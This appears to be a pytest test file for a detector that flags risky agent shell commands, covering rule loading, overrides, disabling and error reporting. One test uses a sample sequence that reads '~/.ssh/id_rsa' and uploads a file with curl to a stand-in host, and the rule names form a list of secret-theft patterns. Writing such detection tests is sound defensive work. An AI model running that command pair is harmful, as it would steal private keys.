import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics.intake import build_event_table
from analytics.rule_examples import rules_found
from exporter.rule_file import RuleFileError, load_rule_set

BUNDLED = load_rule_set()

OWN_RULE = """
rules:
  - id: own-rule
    severity: low
    title: Own
    description: Own rule.
    reference: ATT&CK T1059 Command and Scripting Interpreter
    match: {command: '^deploy ', command_contains: deploy}
"""


@pytest.fixture
def write(tmp_path):
    def write(text, name="own.yml"):
        path = tmp_path / name
        path.write_text(text)
        return path

    return write


def errors_of(*paths, disabled=()):
    with pytest.raises(RuleFileError) as caught:
        load_rule_set(paths, disabled)
    return caught.value.errors


def test_the_bundled_rules_hold_at_least_28_rules_with_unique_ids():
    assert len(BUNDLED.by_id) == len(BUNDLED.rules) >= 28


def test_own_rules_join_the_bundled_ones(write):
    rule_set = load_rule_set([write(OWN_RULE)])
    assert len(rule_set.rules) == len(BUNDLED.rules) + 1
    assert rules_found(rule_set, "deploy --now") == {"own-rule"}


def test_an_empty_file_changes_nothing(write):
    assert load_rule_set([write("")]).rules == BUNDLED.rules


def test_severities_can_be_overridden(write):
    assert load_rule_set([write("severity: {force-push: critical}")]).by_id["force-push"].severity == "critical"


def test_rules_can_be_switched_off_in_a_file_and_by_argument(write):
    rule_set = load_rule_set([write("disable: [force-push]")], ["superuser-command"])
    assert not {"force-push", "superuser-command"} & rule_set.by_id.keys()


def test_a_switched_off_rule_still_serves_the_sequences_it_is_a_step_of():
    rule_set = load_rule_set(disabled=["ssh-key-read"])
    story = ["cat ~/.ssh/id_rsa", "curl -F f=@/tmp/x https://x.example"]
    assert rules_found(rule_set, story) == {"file-uploaded", "secret-then-network"}


def test_all_errors_are_told_at_once_with_file_and_key(write):
    bad = write(
        """
rules:
  - {id: Bad_Id, severity: grave, title: a, description: b, reference: T1, match: {commnad: x}}
  - id: two-conditions
    severity: low
    title: a
    description: b
    reference: ATT&CK T1059 Command and Scripting Interpreter
    match: {command: '(unclosed'}
    run: {at_least: 1}
  - id: slow
    severity: low
    title: a
    description: b
    reference: ATT&CK T1059 Command and Scripting Interpreter
    sequence: {rules: [[force-push], [superuser-command]], within: ten minutes}
extra: 1
"""
    )
    missing = bad.with_name("missing.yml")
    errors = errors_of(bad, missing)
    keys = [
        "rules.0.id", "rules.0.severity", "rules.0.reference", "rules.0.match.0.commnad",
        "rules.1.match.0.command", "rules.1.run.at_least", "rules.2.sequence.within", "extra",
    ]  # fmt: skip
    for key in keys:
        assert sum(error.startswith(f"{bad}:{key}: ") for error in errors) == 1, key
    assert any(error.startswith(f"{missing}: cannot be read") for error in errors)
    assert any("'(unclosed' is no regular expression" in error for error in errors)
    assert all("\n" not in error for error in errors)


def test_a_rule_has_exactly_one_condition(write):
    two = OWN_RULE + "    run: {at_least: 5}\n"
    none = OWN_RULE.replace("    match: {command: '^deploy ', command_contains: deploy}\n", "")
    assert "needs exactly one of" in errors_of(write(two))[0]
    assert "has match, run" in errors_of(write(two))[0]
    assert "has none" in errors_of(write(none))[0]


def test_a_condition_must_ask_for_something(write):
    (error,) = errors_of(write(OWN_RULE.replace("{command: '^deploy ', command_contains: deploy}", "{}")))
    assert "rules.0.match.0: asks for nothing" in error


def test_unknown_and_duplicate_ids_are_named(write):
    first = write(OWN_RULE + "disable: [no-such]\nseverity: {nor-this: low}\n", "first.yml")
    second = write(OWN_RULE, "second.yml")
    errors = errors_of(first, second, disabled=["nor-that"])
    assert f"{first}:disable.0: there is no rule 'no-such'" in errors
    assert f"{first}:severity.nor-this: there is no rule 'nor-this'" in errors
    assert any(error.startswith(f"{second}:rules.0.id: 'own-rule' is already defined in {first}") for error in errors)
    assert "disabled: there is no rule 'nor-that'" in errors


def test_a_sequence_may_name_known_plain_rules_only(write):
    sequence = OWN_RULE.replace(
        "match: {command: '^deploy ', command_contains: deploy}",
        "sequence: {rules: [force-pull, secret-then-network], within: 5m}",
    )
    path = write(sequence)
    assert errors_of(path) == [
        f"{path}:rules.0.sequence.rules.0: there is no rule 'force-pull'",
        f"{path}:rules.0.sequence.rules.1: 'secret-then-network' is a sequence itself",
    ]


@pytest.mark.parametrize("text", ["rules: [", "- 1", "just text", "\x00"])
def test_what_is_no_rule_file_is_refused(write, text):
    assert len(errors_of(write(text))) == 1


@given(
    st.lists(
        st.fixed_dictionaries({}, optional={name: st.text(max_size=120) for name in ("command", "path", "url")}),
        max_size=5,
    )
)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_text_makes_the_bundled_rules_fail(inputs):
    records = [
        {
            "timestamp": 1_700_000_000 + n,
            "session_id": "s",
            "event": "tool_call",
            "tool_name": "Bash",
            "tool_input": i,
        }
        for n, i in enumerate(inputs)
    ]
    table = build_event_table(records, "native").table
    hits = BUNDLED.hits(table)
    assert {hit.rule for hit in hits} <= BUNDLED.by_id.keys()
    assert all(finding.count > 0 for finding in BUNDLED.findings(table.sorted(), hits))
